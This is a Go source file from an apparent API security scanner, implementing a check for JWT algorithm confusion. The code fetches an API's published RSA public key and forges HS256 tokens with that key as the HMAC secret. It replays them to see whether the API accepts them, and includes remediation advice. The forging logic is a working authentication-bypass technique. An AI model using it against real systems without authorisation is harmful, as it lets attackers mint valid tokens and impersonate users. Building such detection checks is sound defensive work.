package dynamic

import (
	"context"
	"crypto/hmac"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net/http"
	"strings"

	"github.com/gatehouse/gatehouse/scan"
)

// KeyConfusion (GH2007) tries the RS256→HS256 algorithm confusion: when an
// identity's token is signed with an asymmetric algorithm (RS*, PS*, ES*),
// it fetches the API's published public key (a JWKS at a well-known path,
// the jwks_uri of an OpenID configuration, or a PEM file), signs a copy of
// the token's claims with HS256 using that public key as the HMAC secret
// (PEM in PKIX and PKCS#1 form, with and without the final newline) and
// replays it on a probe operation that the identity passes and an
// anonymous caller fails. An API whose library takes the algorithm from
// the token header accepts it: anyone can mint tokens.
type KeyConfusion struct{}

var _ scan.Check = KeyConfusion{}

// Meta implements scan.Check.
func (KeyConfusion) Meta() scan.Meta {
	return scan.Meta{
		ID: "GH2007", Title: "JWT algorithm confusion: HS256 token signed with the API's public key accepted", Category: "authn",
		Severity: scan.Critical, OWASP: scan.API2Authn, CWE: "CWE-347",
		Description: "A token signed with HS256, using the API's own published RSA public key as the HMAC secret, was accepted: the verifier takes the algorithm from the token, so anyone can mint tokens.",
		Remediation: "Pin the accepted algorithms on the verifier (RS256/ES256 only for asymmetric keys); never let the token header choose the algorithm.",
		Fix:         "authn: { jwt: [ { issuer: \"https://idp.example.com/\", jwks_url: \"https://idp.example.com/.well-known/jwks.json\", audiences: [my-api], algorithms: [RS256, ES256] } ] }",
	}
}

// publicKeyPaths are where APIs publish their verification keys.
var publicKeyPaths = []string{"/.well-known/jwks.json", "/.well-known/openid-configuration", "/jwks.json", "/jwks",
	"/.well-known/keys", "/oauth/jwks", "/api/jwks", "/public.pem", "/publickey", "/public-key", "/.well-known/public.pem"}

// Run implements scan.Check.
func (KeyConfusion) Run(ctx context.Context, t *scan.Target, report func(scan.Finding)) error {
	for _, id := range t.Identities {
		j, ok := scan.ParseJWT(id.Token())
		if !ok {
			continue
		}
		alg := j.Alg()
		if !strings.HasPrefix(alg, "RS") && !strings.HasPrefix(alg, "PS") && !strings.HasPrefix(alg, "ES") {
			return nil // HMAC tokens: GH2003's business
		}
		secrets, where, err := publishedKeys(ctx, t)
		if err != nil || len(secrets) == 0 {
			return err
		}
		op, p, _, err := probe(ctx, t, id)
		if err != nil || op == nil {
			return err
		}
		claims := map[string]any{}
		for k, v := range j.Claims {
			claims[k] = v
		}
		claims["gh_scan"] = "key-confusion"
		hdr := map[string]any{"alg": "HS256", "typ": "JWT"}
		if kid, ok := j.Header["kid"]; ok {
			hdr["kid"] = kid
		}
		in := scan.B64(hdr) + "." + scan.B64(claims)
		for i, s := range secrets {
			m := hmac.New(sha256.New, s.secret)
			m.Write([]byte(in))
			tok := in + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
			ex, err := t.Client.Do(ctx, t.WithToken(p, tok))
			if scan.Stop(ctx, err) {
				return err
			}
			if err == nil && granted(ex) {
				report(scan.Finding{Key: "hs256-public-key",
					Detail: fmt.Sprintf("A copy of identity %s's %s token re-signed with HS256, using the public key published at %s (%s) as the HMAC secret, was accepted by %s %s, which rejects anonymous callers (candidate %d of %d).",
						id.Name, alg, where[i], s.form, op.Method, op.Template, i+1, len(secrets)),
				}.At(op).With(ex, "HS256 token signed with the public key"))
				return nil
			}
		}
		return nil
	}
	return nil
}

type hmacCandidate struct {
	secret []byte
	form   string
}

// publishedKeys fetches the API's public keys and returns the byte forms a
// confused verifier may use as the HMAC secret, with where each came from.
func publishedKeys(ctx context.Context, t *scan.Target) ([]hmacCandidate, []string, error) {
	var out []hmacCandidate
	var where []string
	add := func(pub *rsa.PublicKey, src string) {
		pkix, err := x509.MarshalPKIXPublicKey(pub)
		if err != nil {
			return
		}
		forms := []struct {
			b    []byte
			form string
		}{
			{pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix}), "PKIX PEM"},
			{pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(pub)}), "PKCS#1 PEM"},
		}
		for _, f := range forms {
			out = append(out, hmacCandidate{f.b, f.form}, hmacCandidate{[]byte(strings.TrimRight(string(f.b), "\n")), f.form + " without the final newline"})
			where = append(where, src, src)
		}
	}
	fetched := map[string]bool{}
	var fetch func(path string, depth int) error
	fetch = func(path string, depth int) error {
		if fetched[path] || depth > 1 || len(out) >= 12 {
			return nil
		}
		fetched[path] = true
		ex, err := t.Do(ctx, http.MethodGet, path, nil, nil)
		if err != nil {
			return stopErr(ctx, err)
		}
		if !ex.OK() {
			return nil
		}
		if blk, _ := pem.Decode(ex.Body); blk != nil {
			if pub := parsePublicPEM(blk); pub != nil {
				add(pub, path)
			}
			return nil
		}
		var doc struct {
			JWKSURI string `json:"jwks_uri"`
			Keys    []struct {
				Kty string `json:"kty"`
				N   string `json:"n"`
				E   string `json:"e"`
			} `json:"keys"`
		}
		if json.Unmarshal(ex.Body, &doc) != nil {
			return nil
		}
		for _, k := range doc.Keys {
			if k.Kty != "RSA" {
				continue
			}
			nb, err1 := base64.RawURLEncoding.DecodeString(strings.TrimRight(k.N, "="))
			eb, err2 := base64.RawURLEncoding.DecodeString(strings.TrimRight(k.E, "="))
			if err1 != nil || err2 != nil || len(nb) == 0 || len(eb) == 0 || len(eb) > 4 {
				continue
			}
			add(&rsa.PublicKey{N: new(big.Int).SetBytes(nb), E: int(new(big.Int).SetBytes(eb).Int64())}, path)
		}
		if doc.JWKSURI != "" {
			if u, ok := strings.CutPrefix(doc.JWKSURI, t.Base.String()); ok && strings.HasPrefix(u, "/") {
				return fetch(u, depth+1) // only on the target itself
			}
		}
		return nil
	}
	for _, path := range publicKeyPaths {
		if err := fetch(path, 0); err != nil {
			return nil, nil, err
		}
		if len(out) > 0 {
			break
		}
	}
	return out, where, nil
}

func parsePublicPEM(blk *pem.Block) *rsa.PublicKey {
	switch blk.Type {
	case "PUBLIC KEY":
		if k, err := x509.ParsePKIXPublicKey(blk.Bytes); err == nil {
			if rk, ok := k.(*rsa.PublicKey); ok {
				return rk
			}
		}
	case "RSA PUBLIC KEY":
		if k, err := x509.ParsePKCS1PublicKey(blk.Bytes); err == nil {
			return k
		}
	}
	return nil
}
